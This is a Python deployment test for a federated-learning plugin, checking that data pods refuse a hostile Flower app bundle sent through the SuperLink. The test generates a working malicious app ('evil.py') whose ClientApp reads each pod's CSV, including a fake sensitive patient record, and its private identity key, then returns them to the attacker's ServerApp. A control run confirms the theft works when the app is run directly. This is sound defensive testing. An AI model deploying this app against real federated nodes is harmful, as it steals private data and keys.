"""An app bundle with its own code, sent through the SuperLink, never runs on a pod.

A hostile modeller writes a Flower App whose ClientApp would read the pod's CSV and its
identity key, and whose ServerApp asks every SuperNode for them, and runs it with
``flwr run`` on a TLS SuperLink with SuperNode authentication, where the pods were started
as documented (registered node keys, ``fedplug pod start``). Every pod must refuse the run,
name itself and the reason, log the run id, and run none of the bundle's code; nothing of
the pods' data or keys may reach the modeller, the SuperLink's logs or its files.
"""

from __future__ import annotations

import json
import re
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest
import yaml
from deploy_helpers import CONNECTION, cluster, make_node_key

from fedplug.secagg import IdentityKey

# Starts real SuperLinks and SuperNodes: the slow tier (`pytest -m deploy`).
pytestmark = pytest.mark.deploy

NAMES = ("pod-a", "pod-b")
SECRET = "Patient-4711-HIV-positive"


def _write_pod(site: Path, name: str, index: int) -> dict[str, object]:
    """A census pod with a free-text column holding distinctive values, and an identity key."""
    from fedplug.data import load_adult

    frame = load_adult("train").iloc[index * 200 : (index + 1) * 200].reset_index(drop=True)
    notes = [f"note-{name}-{i:03d}-confidential" for i in range(len(frame))]
    notes[3] = f"{SECRET}-{name}"
    frame["notes"] = notes
    frame.to_csv(site / f"{name}.csv", index=False)
    key_file = site / f"{name}-identity.pem"
    key_file.write_bytes(IdentityKey.generate().to_pem())
    key_file.chmod(0o600)
    config = {
        "name": name,
        "datasource": {"type": "csv", "path": f"{name}.csv"},
        # A text column: its values are never published, not even in the schema.
        "schema": {"infer": {"force_stypes": {"notes": "text"}}},
        "identity": {"key_file": key_file.name},
    }
    pod_file = site / f"{name}.yaml"
    pod_file.write_text(yaml.safe_dump(config, sort_keys=False))
    key_lines = [line for line in key_file.read_text().splitlines() if line.strip()]
    body = "".join(line for line in key_lines if not line.startswith("-----"))
    return {
        "file": pod_file,
        "csv": site / f"{name}.csv",
        "key": key_file,
        "secrets": [f"{SECRET}-{name}", notes[0], notes[-1], *key_lines, body],
    }


def _write_hostile_app(app_dir: Path, marker: Path, pods: dict[str, dict]) -> None:
    app_dir.mkdir()
    (app_dir / "pyproject.toml").write_text(
        textwrap.dedent(
            """\
            [build-system]
            requires = ["hatchling"]
            build-backend = "hatchling.build"

            [project]
            name = "evil"
            version = "1.0.0"
            description = "reads a pod's data"
            license = "Apache-2.0"
            dependencies = []

            [tool.flwr.app]
            publisher = "mallory"

            [tool.flwr.app.components]
            serverapp = "evil:server"
            clientapp = "evil:client"
            """
        )
    )
    targets = [str(p["csv"]) for p in pods.values()] + [str(p["key"]) for p in pods.values()]
    (app_dir / "evil.py").write_text(
        textwrap.dedent(
            f"""\
            import json
            import sys
            import time
            from pathlib import Path

            from flwr.app import ConfigRecord, Context, Message, RecordDict
            from flwr.clientapp import ClientApp
            from flwr.serverapp import Grid, ServerApp

            MARKER = Path({str(marker)!r})
            TARGETS = {targets!r}
            if "serverapp" not in Path(sys.argv[0]).name:  # imported to run a ClientApp
                MARKER.write_text("evil.py imported by " + sys.argv[0])

            client = ClientApp()


            @client.query("steal")
            def steal(message: Message, context: Context) -> Message:
                MARKER.write_text("evil ClientApp ran")
                loot = {{}}
                for path in TARGETS:
                    try:
                        loot[path] = "\\n".join(Path(path).read_text().splitlines()[:5])
                    except OSError as exc:
                        loot[path] = repr(exc)
                return Message(RecordDict({{"loot": ConfigRecord(loot)}}), reply_to=message)


            server = ServerApp()


            @server.main()
            def main(grid: Grid, context: Context) -> None:
                deadline = time.monotonic() + 60
                nodes = []
                while len(nodes) < {len(pods)} and time.monotonic() < deadline:
                    nodes = sorted(grid.get_node_ids())
                    time.sleep(0.5)
                print("STEAL-NODES", nodes, flush=True)
                messages = [
                    Message(
                        RecordDict({{"config": ConfigRecord({{"give": "everything"}})}}),
                        dst_node_id=node,
                        message_type="query.steal",
                    )
                    for node in nodes
                ]
                replies = list(grid.send_and_receive(messages, timeout=120))
                for reply in replies:
                    node = reply.metadata.src_node_id
                    if reply.has_error():
                        print("STEAL-ERROR", node, reply.error.code, reply.error.reason, flush=True)
                    else:
                        loot = dict(reply.content["loot"])
                        print("STEAL-LOOT", node, json.dumps(loot), flush=True)
                print("STEAL-DONE", len(replies), "of", len(nodes), flush=True)
            """
        )
    )


def _leaks(text: str | bytes, secrets: list[str]) -> list[str]:
    data = text.encode() if isinstance(text, str) else text
    return [s for s in secrets if s.encode() in data]


def test_a_hostile_bundle_is_refused_by_every_pod_and_learns_nothing(tmp_path: Path) -> None:
    site = tmp_path / "pod-site"  # the pods' machine: data, identity keys, node keys
    site.mkdir()
    pods = {name: _write_pod(site, name, i) for i, name in enumerate(NAMES)}
    secrets = [s for pod in pods.values() for s in pod["secrets"]]
    node_keys = {name: make_node_key(site / "node-keys", name) for name in NAMES}
    marker = tmp_path / "evil-ran.marker"
    hostile = tmp_path / "hostile-app"
    _write_hostile_app(hostile, marker, pods)

    with cluster(tmp_path / "link", tls=True, auth=True) as c:
        c.start_superlink()
        for name in NAMES:
            c.register(node_keys[name][1])
        procs = [  # fedplug pod start, as the README's Deploy section says
            c.start_supernode(pods[name]["file"], key=node_keys[name][0], wait=False)
            for name in NAMES
        ]
        for proc in procs:
            c.wait_connected(proc)
        run = c.start_app_run(hostile, name="hostile-run")
        outcome = c.finish(run, timeout=300)
        flwr_log = c.flwr("log", outcome.run_id, CONNECTION, "--show", timeout=60)
        pod_logs = {name: proc.log() for name, proc in zip(NAMES, procs, strict=True)}
        superlink_log = c.superlink.log()
        home, workdir, logs = c.home, c.workdir, c.logs
        assert all(proc.alive() for proc in procs), c.dump_logs()  # a refusal is no crash

    run_id = outcome.run_id
    stream = outcome.log
    assert "STEAL-DONE 2 of 2" in stream, c.dump_logs()  # the hostile ServerApp did run
    assert "STEAL-LOOT" not in stream
    errors = re.findall(r"STEAL-ERROR (\d+) (\d+) (.*)", stream)
    assert len(errors) == len(NAMES), stream
    refused_by = set()
    for _node, _code, reason in errors:
        payload = json.loads(reason)
        assert payload["reason"] == "bundle-refused", payload
        (name,) = payload["pods"]
        refused_by.add(name)
        message = payload["message"]
        assert f"pod {name!r} refuses run {run_id}" in message
        assert "'evil.py'" in message and "flwr run <fedplug checkout>" in message
    assert refused_by == set(NAMES)

    for name, log in pod_logs.items():
        assert f"fedplug pod {name!r} refuses run {run_id} (bundle-refused)" in log, log
        assert "'evil.py'" in log

    # No code of the bundle ran on a pod.
    assert not marker.exists(), marker.read_text()

    # Nothing of the pods' data or keys reached the modeller or the SuperLink.
    assert flwr_log.returncode == 0, flwr_log.stderr
    assert "STEAL-DONE" in flwr_log.stdout
    for where, text in (
        ("flwr run --stream", stream),
        ("flwr log", flwr_log.stdout + flwr_log.stderr),
        ("the SuperLink's log", superlink_log),
    ):
        assert not _leaks(text, secrets), (where, _leaks(text, secrets))
    scanned = 0
    for path in [*home.rglob("*"), *workdir.rglob("*")]:
        # The pods' own logs may hold what their owners see; tls/ holds the test's CA.
        if not path.is_file() or path.parent == workdir / "tls":
            continue
        if path.parent == logs and path.name.startswith("supernode-"):
            continue
        scanned += 1
        assert not _leaks(path.read_bytes(), secrets), (path, _leaks(path.read_bytes(), secrets))
    assert scanned >= 3  # at least the SuperLink's log, the run's log and Flower's config

    # Control: the same ClientApp, imported and run as Flower's flwr-clientapp would on a
    # plain flower-supernode, writes the marker and reads the data; so the pods above
    # refused an attack that works.
    control = subprocess.run(
        [
            sys.executable,
            "-c",
            textwrap.dedent(
                f"""\
                import sys
                sys.path.insert(0, {str(hostile)!r})
                from flwr.app import Context, Message, RecordDict
                from flwr.supercore.task_identity import TaskIdentity
                TaskIdentity.run_id, TaskIdentity.node_id, TaskIdentity.task_id = 1, 0, 0
                import evil
                message = Message(RecordDict(), dst_node_id=1, message_type="query.steal")
                context = Context(run_id=1, node_id=1, node_config={{}}, state=RecordDict(),
                                  run_config={{}})
                print(dict(evil.client(message, context).content["loot"]))
                """
            ),
        ],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert control.returncode == 0, control.stderr
    assert marker.exists()
    assert (
        f"{SECRET}-pod-a" in control.stdout and pods["pod-a"]["secrets"][-1][:20] in control.stdout
    )
